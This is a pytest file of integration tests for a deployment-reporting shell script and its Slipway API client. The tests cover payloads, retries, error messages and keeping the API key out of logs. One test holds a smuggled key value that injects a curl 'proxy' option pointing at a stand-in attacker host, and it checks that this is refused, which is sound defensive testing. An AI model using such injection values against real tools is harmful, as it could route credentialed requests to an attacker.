"""How the report script delivers: to the real API, and to servers that have a bad day."""

import json
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from typing import Any

import pytest
from pytest_django.live_server_helper import LiveServer

from deployments.models import Deployment, Job, Scope
from deployments.processing import process_due_jobs
from tests import factories
from tests.integrations.clones import CLEAN, SCRIPT, commit, git, run


@pytest.mark.django_db(transaction=True)
class TestAgainstSlipway:
    def test_the_job_holds_what_the_clone_knows(self, clone: Path, live_server: LiveServer) -> None:
        key = factories.make_key(factories.make_workspace())
        message = 'Say "hi" \\n\n\n🚀\ttab \x1b[31m'
        sha = commit(clone, message, 'odd "name"\\.txt')
        done = run(clone, "--version", "v2", SLIPWAY_URL=live_server.url, SLIPWAY_API_KEY=f"{key}\r\n")
        assert done.returncode == 0, done.stderr
        job = Job.objects.get()
        assert str(job.pk) in done.stderr
        (told,) = job.payload["commits"]
        assert (told["sha"], told["message"], told["files"]) == (sha, message, ['odd "name"\\.txt'])
        assert told["parents"] == [git(clone, "rev-parse", "v1")]

    def test_the_second_report_brings_what_is_new_since_the_first(self, clone: Path, live_server: LiveServer) -> None:
        key = factories.make_key(factories.make_workspace())
        for version in ("v1", "v2"):
            done = run(clone, "--version", version, SLIPWAY_URL=live_server.url, SLIPWAY_API_KEY=key)
            assert done.returncode == 0, done.stderr
            assert "reported" in done.stderr
            process_due_jobs()
            commit(clone, f"after {version}", f"{version}.txt")
            commit(clone, f"more after {version}", f"{version}b.txt")
            git(clone, "tag", f"later-than-{version}", "HEAD^")  # the last deployment counts, not the last tag
        latest = Deployment.objects.latest("id")
        assert (latest.version, latest.change_kind, latest.changes_count) == ("v2", "forward", 2)

    def test_the_same_run_of_ci_is_one_deployment_however_often_it_reports(
        self, clone: Path, live_server: LiveServer
    ) -> None:
        key = factories.make_key(factories.make_workspace())
        commit(clone, "second", "b.txt")
        commit(clone, "third", "c.txt")
        for _ in range(3):
            done = run(clone, SLIPWAY_URL=live_server.url, SLIPWAY_API_KEY=key, CI_JOB_ID="42")
            assert done.returncode == 0, done.stderr
            process_due_jobs()  # from now on Slipway knows the commits, so the next body has fewer
        assert Job.objects.count() == 1
        assert "reported" in done.stderr
        assert "before" in done.stderr

    def test_a_chosen_key_that_was_used_for_something_else_is_an_error(
        self, clone: Path, live_server: LiveServer
    ) -> None:
        env = {"SLIPWAY_URL": live_server.url, "SLIPWAY_API_KEY": factories.make_key(factories.make_workspace())}
        assert run(clone, "--idempotency-key", "pipeline-1", **env).returncode == 0
        done = run(clone, "--idempotency-key", "pipeline-1", "--environment", "staging", **env)
        assert done.returncode == 3
        assert "another body" in done.stderr

    def test_a_key_that_may_not_read_begins_at_the_tag(self, clone: Path, live_server: LiveServer) -> None:
        key = factories.make_key(factories.make_workspace(), scopes=[Scope.DEPLOYMENTS_WRITE])
        sha = commit(clone, "second", "b.txt")
        done = run(clone, SLIPWAY_URL=live_server.url, SLIPWAY_API_KEY=key)
        assert done.returncode == 0
        assert "deployments:read" in done.stderr
        assert [told["sha"] for told in Job.objects.get().payload["commits"]] == [sha]

    def test_a_refused_key_is_told_in_the_servers_words(self, clone: Path, live_server: LiveServer) -> None:
        done = run(clone, SLIPWAY_URL=live_server.url, SLIPWAY_API_KEY="slipway_00000000_wrong")
        assert done.returncode == 3
        assert "401" in done.stderr
        assert "The API key is not known" in done.stderr

    def test_wrong_fields_are_told_in_the_servers_words(self, clone: Path, live_server: LiveServer) -> None:
        key = factories.make_key(factories.make_workspace())
        env = {"SLIPWAY_URL": live_server.url, "SLIPWAY_API_KEY": key}
        done = run(clone, "--deployed-at", "yesterday", "--state", "great", **env)
        assert done.returncode == 3
        assert "deployedAt" in done.stderr
        assert "state" in done.stderr


class _Server(HTTPServer):
    """Answers POST with what it is given, one after the other, and then takes every report."""

    answers: list[tuple[int, dict[str, str]] | None]
    posts: list[dict[str, Any]]


class _Handler(BaseHTTPRequestHandler):
    server: _Server

    def do_GET(self) -> None:
        self._answer(200, {}, b'{"results": [], "next": null}')

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"]))
        self.server.posts.append({"headers": dict(self.headers), "body": json.loads(body)})
        answer = self.server.answers.pop(0) if self.server.answers else (202, {})
        if answer is None:
            self.close_connection = True  # without a word: curl's “empty reply”
            return
        self._answer(*answer, b'{"id": "job-1"}')

    def _answer(self, status: int, headers: dict[str, str], content: bytes) -> None:
        self.send_response(status)
        for name, value in headers.items():
            self.send_header(name, value)
        self.send_header("Content-Length", str(len(content)))
        self.end_headers()
        self.wfile.write(content)

    def log_message(self, *arguments: object) -> None:
        """Say nothing."""


@pytest.fixture
def server() -> Iterator[_Server]:
    server = _Server(("127.0.0.1", 0), _Handler)
    server.answers, server.posts = [], []
    thread = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.05})
    thread.start()
    yield server
    server.shutdown()
    thread.join()
    server.server_close()


def report(clone: Path, server: _Server, *arguments: str, **env: str) -> subprocess.CompletedProcess[str]:
    address = f"http://127.0.0.1:{server.server_port}/"
    return run(clone, *arguments, SLIPWAY_URL=address, SLIPWAY_API_KEY="slipway_secret", **env)


@pytest.mark.parametrize(
    "answer", [(503, {"Retry-After": "1"}), (429, {"Retry-After": "1"}), (500, {}), None], ids=str
)
def test_a_server_that_cannot_now_is_asked_again(
    clone: Path, server: _Server, answer: tuple[int, dict[str, str]] | None
) -> None:
    server.answers = [answer]
    done = report(clone, server)
    assert done.returncode == 0, done.stderr
    assert "attempt 2 of 7" in done.stderr
    assert "job-1" in done.stderr
    first, second = (post["headers"]["Idempotency-Key"] for post in server.posts)
    assert first == second


def test_it_waits_as_long_as_it_is_told(clone: Path, server: _Server) -> None:
    server.answers = [(429, {"Retry-After": "2"})]
    assert "in 2 s" in report(clone, server).stderr


def test_it_gives_up_in_the_end(clone: Path, server: _Server) -> None:
    server.answers = [(503, {}), (503, {})]
    done = report(clone, server, "--attempts", "2")
    assert (done.returncode, len(server.posts)) == (4, 2)
    assert "answered 503" in done.stderr


def test_a_refusal_is_not_tried_again(clone: Path, server: _Server) -> None:
    server.answers = [(422, {})]
    assert report(clone, server).returncode == 3
    assert len(server.posts) == 1


def test_a_server_that_is_away_is_named(clone: Path, server: _Server) -> None:
    server.server_close()
    done = run(clone, "--attempts", "2", SLIPWAY_URL="http://127.0.0.1:9", SLIPWAY_API_KEY="x")
    assert done.returncode == 4
    assert "attempt 2 of 2" in done.stderr
    assert "http://127.0.0.1:9 could not be reached" in done.stderr


def test_a_dry_run_needs_no_server(clone: Path) -> None:
    done = run(clone, "--dry-run", SLIPWAY_URL="http://127.0.0.1:9", SLIPWAY_API_KEY="x")
    assert done.returncode == 0
    assert json.loads(done.stdout)["version"] == "v1"


@pytest.mark.parametrize("shell", [["dash"], ["dash", "-x"]])
def test_the_key_is_in_no_argument_and_in_no_log(
    clone: Path, server: _Server, tmp_path: Path, shell: list[str]
) -> None:
    """A curl that writes down its arguments, and a configuration that has curl tell all it does."""
    wrapper = tmp_path / "bin" / "curl"
    wrapper.parent.mkdir()
    wrapper.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" >>{tmp_path}/arguments\nexec /usr/bin/curl "$@"\n')
    wrapper.chmod(0o755)
    (tmp_path / ".curlrc").write_text("verbose\n")
    done = subprocess.run(
        [*shell, str(SCRIPT), "--app", "a", "--environment", "p", "--repository", "o/n"],
        cwd=clone, capture_output=True, text=True, check=False,
        env=CLEAN | {
            "PATH": f"{wrapper.parent}:/usr/bin:/bin", "HOME": str(tmp_path),
            "SLIPWAY_URL": f"http://127.0.0.1:{server.server_port}", "SLIPWAY_API_KEY": "slipway_secret",
        },
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert server.posts[0]["headers"]["Authorization"] == "Bearer slipway_secret"
    assert "slipway_secret" not in (tmp_path / "arguments").read_text() + done.stdout + done.stderr


def test_a_key_that_would_be_another_option_of_curl_is_refused(clone: Path, server: _Server) -> None:
    done = run(clone, SLIPWAY_URL="http://127.0.0.1:9", SLIPWAY_API_KEY='x"\nproxy = "http://evil.example')
    assert done.returncode == 2
    assert "characters that no key has" in done.stderr
